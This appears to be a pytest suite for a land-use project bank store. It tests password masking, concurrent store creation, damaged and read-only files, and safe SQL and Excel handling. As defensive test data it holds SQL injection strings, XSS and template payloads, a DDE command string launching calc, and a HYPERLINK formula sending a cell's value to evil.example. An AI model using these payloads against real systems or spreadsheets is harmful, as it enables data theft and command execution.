"""Issue 14 on the project bank: secrets, concurrent creation, SQL, damaged files, Excel, text.

Every case runs the real store: a GeoPackage file and a throwaway PostGIS cluster
(tests/pgcluster.py); concurrency cases run real processes. Fixtures are built in code
(test_bank_store.candidates: three parcels near Qingdao, 15 亩 each for P1 and P2).
"""

from __future__ import annotations

import json
import logging
import os
import shutil
import signal
import sqlite3
import subprocess
import sys
import warnings
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import strategies as st
from pgcluster import postgis_server  # noqa: F401  (session fixture)
from test_bank_store import (  # noqa: F401  (_no_worker_left_behind: autouse fixture)
    _WORKERS,
    _no_worker_left_behind,
    candidates,
    raw,
    start_worker,
    sync_file,
    wait_for,
)

from landuse.bank import write_bank_excel
from landuse.bank.store import BankError, ProjectBank
from landuse.errors import LanduseError

SECRET = "s3cretPW"


@pytest.fixture(params=["gpkg", "postgis"])
def target(request, tmp_path):
    """A new, empty bank location on each backend."""
    if request.param == "gpkg":
        return str(tmp_path / "bank.gpkg")
    return request.getfixturevalue("postgis_server").new_database()


def assert_no_secret(*texts: object, secret: str = SECRET) -> None:
    for text in texts:
        assert secret not in str(text), text


# --- D9: the password never leaves ------------------------------------------------------------


@pytest.mark.parametrize(
    ("dsn", "kind"),
    [
        (f"postgresql://u@127.0.0.1:1/db?password={SECRET}", "could not connect"),
        (f"postgresql://u:{SECRET}@127.0.0.1:1/db", "could not connect"),
        (f"postgresql://u@127.0.0.1:1/db?sslmode=disable&password={SECRET}", "could not connect"),
        # libpq quotes the bad token back: the password itself
        (f"postgresql://u:{SECRET}%zz@127.0.0.1:1/db", "not a valid PostgreSQL connection"),
        (f"postgresql://u:{SECRET}@[::1/x", "not a valid PostgreSQL connection"),
        (f"host=127.0.0.1 port=1 password={SECRET}", "must be a GeoPackage path"),
    ],
)
def test_unreachable_server_errors_never_show_the_password(dsn, kind, caplog):
    caplog.set_level(logging.DEBUG)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        with pytest.raises(LanduseError, match=kind) as info:
            ProjectBank.open(dsn, timeout=1)
    assert_no_secret(str(info.value), repr(info.value), caplog.text, *(w.message for w in caught))
    assert info.value.__context__ is None or SECRET not in str(info.value.__context__)
    assert "***" in str(info.value)


def test_a_malformed_dsn_is_a_bank_error():
    with pytest.raises(BankError, match=r"postgresql://\[::1/x is not a valid PostgreSQL"):
        ProjectBank.open("postgresql://[::1/x", timeout=1)


def test_a_real_server_never_shows_the_password(postgis_server, caplog):  # noqa: F811
    caplog.set_level(logging.DEBUG)
    dsn = postgis_server.new_database() + f"?password={SECRET}"
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        with ProjectBank.open(dsn) as bank:
            bank.sync(candidates(), as_of="2021-12-31", by="wang")
            shown = [bank.target, repr(bank), bank.entries().attrs["bank"]]
    assert shown[0] == dsn.replace(SECRET, "***")
    assert shown[1] == f"ProjectBank(postgis: {shown[0]})"
    raw(dsn.split("?")[0], "INSERT INTO bank_schema VALUES (2, now(), '9.0')")
    with pytest.raises(BankError, match="newer landuse") as newer:
        ProjectBank.open(dsn)
    # the server quotes the user name back; a password equal to it is masked there too
    user_is_password = dsn.replace("postgres@", f"{SECRET}@")
    with pytest.raises(LanduseError, match=r'role "\*\*\*" does not exist') as role:
        ProjectBank.open(user_is_password)
    assert f'role "{SECRET}"' not in str(role.value)  # (the user name itself stays in the DSN)
    assert_no_secret(*shown, newer.value, caplog.text, *(w.message for w in caught))
    assert f"{postgis_server.port}" in shown[0]


def test_a_keyword_target_is_refused_without_its_password():
    with pytest.raises(BankError, match=r"received 'host=db password=\*\*\* dbname=x'"):
        ProjectBank.open(f"host=db password={SECRET} dbname=x")


# --- D10: a new store created by several processes at once ------------------------------------

OPENER = r"""
import json, os, sys, time
from landuse.bank.store import ProjectBank
folder, me, targets = sys.argv[1], sys.argv[2], json.loads(sys.argv[3])
open(os.path.join(folder, f"ready-{me}"), "w").close()
for i, target in enumerate(targets):
    while not os.path.exists(os.path.join(folder, f"go-{i}")):
        time.sleep(0.001)
    with ProjectBank.open(target, timeout=60) as bank:
        print(i, bank.kind, len(bank.entries()), flush=True)
    open(os.path.join(folder, f"done-{i}-{me}"), "w").close()
"""


def _wait_files(paths: list[Path], procs: list[subprocess.Popen]) -> None:
    import time

    end = time.monotonic() + 120
    while not all(p.exists() for p in paths):
        dead = [p for p in procs if p.poll() is not None]
        if dead:
            pytest.fail(f"an opener ended early: {dead[0].communicate()}")
        assert time.monotonic() < end, "openers never got there"
        time.sleep(0.005)


@pytest.mark.parametrize("backend", ["gpkg", "postgis"])
def test_several_processes_create_a_new_store_at_once(backend, tmp_path, request):
    """4 processes open each of 5 new stores at the same moment: all succeed, one schema row."""
    n, trials = 4, 5
    if backend == "gpkg":
        stores = [str(tmp_path / f"race{t}.gpkg") for t in range(trials)]
    else:
        server = request.getfixturevalue("postgis_server")
        stores = [server.new_database() for _ in range(trials)]
        raw(stores[0], "DROP EXTENSION postgis CASCADE")  # one store also creates PostGIS
    procs = [
        subprocess.Popen(
            [sys.executable, "-c", OPENER, str(tmp_path), str(k), json.dumps(stores)],
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        )  # fmt: skip
        for k in range(n)
    ]
    _WORKERS.extend(procs)
    _wait_files([tmp_path / f"ready-{k}" for k in range(n)], procs)
    for t in range(trials):
        (tmp_path / f"go-{t}").touch()  # all openers start together
        _wait_files([tmp_path / f"done-{t}-{k}" for k in range(n)], procs)
    kind = "geopackage" if backend == "gpkg" else "postgis"
    for proc in procs:
        out, err = proc.communicate(timeout=60)
        assert proc.returncode == 0, err
        assert out.split("\n")[:-1] == [f"{t} {kind} 0" for t in range(trials)]
    for store in stores:
        assert raw(store, "SELECT version FROM bank_schema") == [(1,)]


# --- SQL: bound parameters, hostile names, NUL --------------------------------------------------

HOSTILE = ['"; DROP TABLE x;--', "O'Brien", "'; DROP TABLE bank_entries;--", 'a"b\\c', "%_like"]


def test_a_hostile_schema_name_holds_the_bank(postgis_server):  # noqa: F811
    import psycopg
    from psycopg import sql

    dsn = postgis_server.new_database()
    schema = HOSTILE[0]
    with psycopg.connect(dsn, autocommit=True) as conn:
        conn.execute("CREATE TABLE x (v int)")
        conn.execute(sql.SQL("CREATE SCHEMA {}").format(sql.Identifier(schema)))
        conn.execute(
            sql.SQL("ALTER DATABASE {} SET search_path TO {}, public").format(
                sql.Identifier(dsn.rsplit("/", 1)[1]), sql.Identifier(schema)
            )
        )
    cands = candidates(candidate_id=HOSTILE[1:4], zone_id=HOSTILE[2:5])
    with ProjectBank.open(dsn) as bank:
        bank.sync(cands, as_of="2021-12-31", by=HOSTILE[0])
        bank.set_status(HOSTILE[1], "verified", by=HOSTILE[4], note=HOSTILE[3])
        entries = bank.entries()
        history = bank.history(HOSTILE[1])
    assert entries.set_index("parcel_id")["candidate_id"].to_dict() == {
        "P1": HOSTILE[1], "P2": HOSTILE[2], "P3": HOSTILE[3],
    }  # fmt: skip
    assert entries.set_index("parcel_id")["zone_id"].to_dict() == {
        "P1": HOSTILE[2], "P2": HOSTILE[3], "P3": HOSTILE[4],
    }  # fmt: skip
    assert history[["by", "note"]].to_numpy().tolist() == [
        [HOSTILE[0], None], [HOSTILE[4], HOSTILE[3]],
    ]  # fmt: skip
    tables = raw(dsn, "SELECT table_schema, table_name FROM information_schema.tables "
                      "WHERE table_name IN ('x', 'bank_entries') ORDER BY 2")  # fmt: skip
    assert tables == [(schema, "bank_entries"), ("public", "x")]


def test_nul_in_text_is_refused_the_same_on_both_backends(target):
    with ProjectBank.open(target) as bank:
        bank.sync(candidates(["P1"]), as_of="2020-12-31", by="wang")
        before = bank.entries()
        bad = candidates(reason_text=["x", "y\x00", "z"]).assign(parcel_id=["P\x001", "P2", "P3"])
        with pytest.raises(
            BankError,
            match=r"ProjectBank.sync\(\): `candidates` hold a NUL character \(\\x00\) in "
            r"parcel_id \(1 value: P\\x001\); reason_text \(1 value: P2\)\. .* Nothing was written",
        ):
            bank.sync(bad, as_of="2021-12-31", by="wang")
        with pytest.raises(BankError, match=r"`by` or `note` hold a NUL .* in note"):
            bank.sync(candidates(), as_of="2021-12-31", by="wang", note="a\x00b")
        with pytest.raises(BankError, match=r"in candidate_id \(1 value: B-P1\\x00\)"):
            bank.set_status(["B-P1", "B-P1\x00"], "verified", by="li")
        with pytest.raises(BankError, match=r"in by \(1 value: B-P1\)"):
            bank.set_status("B-P1", "verified", by="li\x00")
        with pytest.raises(BankError, match=r"ProjectBank.history\(\): `candidate_id` hold a NUL"):
            bank.history("B-P1\x00")
        pd.testing.assert_frame_equal(bank.entries(), before)
        assert len(bank.syncs()) == 1
        assert bank.history("B-P1")["event"].tolist() == ["added"]


# --- D13: damaged, read-only, odd timeouts -----------------------------------------------------


@pytest.mark.parametrize("timeout", [float("nan"), float("inf"), -float("inf"), True])
def test_a_timeout_that_is_not_finite_seconds_is_refused(target, timeout):
    with pytest.raises(BankError, match=r"`timeout` must be a finite number of seconds >= 0"):
        ProjectBank.open(target, timeout=timeout)
    if target.endswith(".gpkg"):
        assert not Path(target).exists()


def _damaged_banks(tmp_path: Path) -> list[Path]:
    good = tmp_path / "good.gpkg"
    with ProjectBank.open(good) as bank:
        from test_bank_store import many

        bank.sync(many(2000), as_of="2021-12-31", by="wang")
    size = good.stat().st_size
    garbage = tmp_path / "garbage.gpkg"
    shutil.copy(good, garbage)
    with garbage.open("r+b") as fh:
        fh.seek(size // 2)
        fh.write(bytes(range(256)) * 64)  # 4 pages of garbage mid-file
    truncated = tmp_path / "truncated.gpkg"
    shutil.copy(good, truncated)
    os.truncate(truncated, size // 2)
    return [garbage, truncated]


def test_a_damaged_geopackage_says_so_and_how_to_recover(tmp_path):
    for path in _damaged_banks(tmp_path):
        before = path.read_bytes()
        with pytest.raises(
            BankError,
            match=rf"{path.name} is damaged \(SQLite: database disk image is malformed\).*"
            r"Restore the file from a backup.*sqlite3 .* \.recover",
        ):
            with ProjectBank.open(path) as bank:
                bank.entries()
                bank.sync(candidates(), as_of="2022-12-31", by="wang")
        assert path.read_bytes() == before


@pytest.fixture
def make_read_only():
    """Make a file read-only for this process (root ignores permissions: chattr +i then)."""
    done: list[Path] = []

    def _make(path: Path) -> None:
        if os.geteuid() == 0:
            if shutil.which("chattr") is None or subprocess.run(
                ["chattr", "+i", str(path)], capture_output=True, check=False
            ).returncode:
                pytest.skip("running as root and chattr +i is not available")
        else:
            path.chmod(0o444)
        done.append(path)

    yield _make
    for path in done:
        if os.geteuid() == 0:
            subprocess.run(["chattr", "-i", str(path)], check=False)
        path.chmod(0o644)


def test_sync_into_a_read_only_bank_is_a_bank_error(tmp_path, make_read_only):
    path = tmp_path / "bank.gpkg"
    with ProjectBank.open(path) as bank:
        bank.sync(candidates(["P1"]), as_of="2020-12-31", by="wang")
    before = path.read_bytes()
    make_read_only(path)
    with ProjectBank.open(path) as bank:
        assert bank.entries()["parcel_id"].tolist() == ["P1"]  # reading works
        with pytest.raises(
            BankError, match=r"bank.gpkg is read-only for this process .* check the file's "
            r"permissions .* Nothing was written",
        ):  # fmt: skip
            bank.sync(candidates(), as_of="2021-12-31", by="wang")
        with pytest.raises(BankError, match=r"read-only for this process"):
            bank.set_status("B-P1", "verified", by="li")
    assert path.read_bytes() == before
    assert not Path(f"{path}-journal").exists()


def test_cli_sync_into_a_read_only_bank_exits_2(tmp_path, make_read_only):
    import pyogrio

    path = tmp_path / "bank.gpkg"
    ProjectBank.open(path).close()
    make_read_only(path)
    from click.testing import CliRunner

    from landuse.cli import main

    cands = tmp_path / "c.gpkg"
    pyogrio.write_dataframe(candidates(), cands, layer="project_bank")
    result = CliRunner().invoke(
        main, ["bank-store", "sync", str(cands), "--store", str(path), "--as-of", "2021-12-31"]
    )
    assert result.exit_code == 2, result.output
    assert result.output.startswith("error: ProjectBank: ")
    assert "read-only for this process" in result.output
    assert not isinstance(result.exception, sqlite3.Error)


def test_a_hot_journal_a_read_only_opener_cannot_roll_back(tmp_path, make_read_only):
    path = tmp_path / "bank.gpkg"
    with ProjectBank.open(path) as bank:
        bank.sync(candidates(), as_of="2020-12-31", by="wang")
        before = bank.entries()
    from test_bank_store import many

    marker = tmp_path / "in-transaction"
    proc = start_worker(
        str(path), "sync", sync_file(tmp_path, many(3000), "2021-12-31"),
        env={"LANDUSE_BANK_TEST_PAUSE": f"sync:120:{marker}", "BANK_WORKER_CACHE_PAGES": "16"},
    )  # fmt: skip
    wait_for(marker, proc)
    proc.send_signal(signal.SIGKILL)
    proc.communicate(timeout=30)
    assert Path(f"{path}-journal").stat().st_size > 0  # the hot journal of the killed sync
    make_read_only(path)
    with pytest.raises(
        BankError,
        match=r"bank.gpkg has an unfinished write \(hot journal bank.gpkg-journal, left by a "
        r"sync that was killed\) .* Open it once with write access",
    ):
        ProjectBank.open(path)
    subprocess.run(["chattr", "-i", str(path)], check=False) if os.geteuid() == 0 else None
    path.chmod(0o644)
    with ProjectBank.open(path) as bank:  # read-write: rolled back to the state before
        pd.testing.assert_frame_equal(bank.entries(), before)
    assert not Path(f"{path}-journal").exists()


# --- D4: Excel cells hold text; property test over every text the bank keeps ------------------


def _formula_candidates() -> pd.DataFrame:
    return candidates(["P1"]).assign(
        parcel_id=["=1+1"], enterprise=['=HYPERLINK("http://evil.example/?"&A1,"x")'],
        reason_text=["@SUM(A1)"],
    )  # fmt: skip


def test_export_excel_writes_formula_text_as_text(target, tmp_path):
    with ProjectBank.open(target) as bank:
        bank.sync(_formula_candidates(), as_of="2021-12-31", by="=cmd|' /C calc'!A0")
        out = bank.export_excel(tmp_path / "b.xlsx")
    book = openpyxl.load_workbook(out)
    listing = book["项目清单"]
    header = [c.value for c in listing[1]]
    row = {h: c for h, c in zip(header, listing[2], strict=True)}
    assert (row["宗地编号"].data_type, row["宗地编号"].value) == ("s", "=1+1")
    assert (row["认定原因"].data_type, row["认定原因"].value) == ("s", "@SUM(A1)")
    assert (row["企业名称"].data_type, row["企业名称"].value) == (
        "s", '=HYPERLINK("http://evil.example/?"&A1,"x")',
    )  # fmt: skip
    syncs = book["同步记录"]
    by = [c for c in syncs[2] if c.value == "=cmd|' /C calc'!A0"]
    assert [c.data_type for c in by] == ["s"]
    assert not [c for ws in book.worksheets for r in ws.iter_rows() for c in r if c.data_type == "f"]


def test_write_bank_excel_writes_formula_text_as_text(tmp_path):
    out = write_bank_excel(_formula_candidates(), tmp_path / "bank.xlsx")
    sheet = openpyxl.load_workbook(out)["项目库"]
    header = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(header, sheet[2], strict=True)}
    assert (row["宗地编号"].data_type, row["宗地编号"].value) == ("s", "=1+1")
    assert (row["企业名称"].data_type, row["企业名称"].value) == (
        "s", '=HYPERLINK("http://evil.example/?"&A1,"x")',
    )  # fmt: skip


PIECES = [
    "{{ 7*7 }}", "{% if 1 %}x{% endif %}", "{#", "#}", "{{", "}}", "<script>alert(1)</script>",
    "</script>", "<img src=x onerror=alert(1)>", "&amp;", "=1+1", "+1", "-1", "@A1", "\t", "\n",
    "=HYPERLINK(\"http://x.example\",\"y\")", "'", '"', "\\", "\\N", "%s", "%_", "?", ";", "--",
    "'; DROP TABLE bank_entries;--", "\u202e", "\u200f", "\u2066", "宗地-青岛/001", "用地面积(亩)",
    "🏭", "👩‍👩‍👧", "é", "e\u0301", "  ", "_x000D_", "\u2028", "\r", "\r\n",
]
_TEXT = (
    st.lists(
        st.one_of(
            st.sampled_from(PIECES),
            st.text(
                st.characters(blacklist_categories=("Cs", "Cc")) | st.sampled_from("\t\n"),
                min_size=1, max_size=8,
            ),
        ),  # fmt: skip
        min_size=1,
        max_size=4,
    )
    .map("".join)
    .filter(lambda t: t.strip() != "")
)
#: How many adversarial examples each sink received (reported by the lead).
SINK_COUNTS: dict[str, int] = {}


def _round_trip_property(target: str, tmp_path: Path, max_examples: int) -> None:
    from hypothesis import HealthCheck, given, settings

    counter = iter(range(10**6))
    bank = ProjectBank.open(target)

    @settings(max_examples=max_examples, deadline=None, database=None,
              suppress_health_check=[HealthCheck.too_slow])  # fmt: skip
    @given(texts=st.lists(_TEXT, min_size=7, max_size=7))
    def check(texts):
        k = next(counter)
        pid, cid, zone, reason, by_sync, by_status, note = texts
        pid, cid = f"{pid}|{k}", f"{cid}|c{k}"  # unique per example; the text still leads
        cands = candidates(["P1"]).assign(
            parcel_id=[pid], candidate_id=[cid], zone_id=[zone], reason_text=[reason],
            enterprise=[note],
        )  # fmt: skip
        bank.sync(cands, as_of="2021-12-31", by=by_sync, note=note)
        bank.set_status(cid, "verified", by=by_status, note=note)
        entry = bank.entries().set_index("candidate_id").loc[cid]
        assert [entry[c] for c in ("parcel_id", "zone_id", "reason_text", "enterprise")] == [
            pid, zone, reason, note,
        ]  # fmt: skip
        history = bank.history(cid)
        assert history[["event", "by", "note"]].to_numpy().tolist() == [
            ["added", by_sync, note], ["status", by_status, note],
        ]  # fmt: skip
        out = bank.export_excel(tmp_path / "bank.xlsx")
        book = openpyxl.load_workbook(out)
        listing = book["项目清单"]
        header = [c.value for c in listing[1]]
        rows = [dict(zip(header, r, strict=True)) for r in listing.iter_rows(min_row=2)]
        row = next(r for r in rows if r["候选编号"].value == excel_form(cid))
        for label, value in (("宗地编号", pid), ("集聚区编号", zone), ("认定原因", reason),
                             ("企业名称", note), ("状态变更人", by_status)):  # fmt: skip
            assert (row[label].data_type, row[label].value) == ("s", excel_form(value))
        kind = "gpkg" if target.endswith(".gpkg") else "postgis"
        SINK_COUNTS[kind] = SINK_COUNTS.get(kind, 0) + 1
        SINK_COUNTS["excel"] = SINK_COUNTS.get("excel", 0) + 1

    try:
        check()
    finally:
        bank.close()
    logging.getLogger(__name__).info("adversarial examples per sink: %s", SINK_COUNTS)


def excel_form(text: str) -> str:
    """What an xlsx cell gives back: XML reads a lone or CRLF carriage return as a newline."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def test_adversarial_text_round_trips_through_the_bank_and_its_excel(target, tmp_path):
    _round_trip_property(target, tmp_path, 40 if target.endswith(".gpkg") else 25)
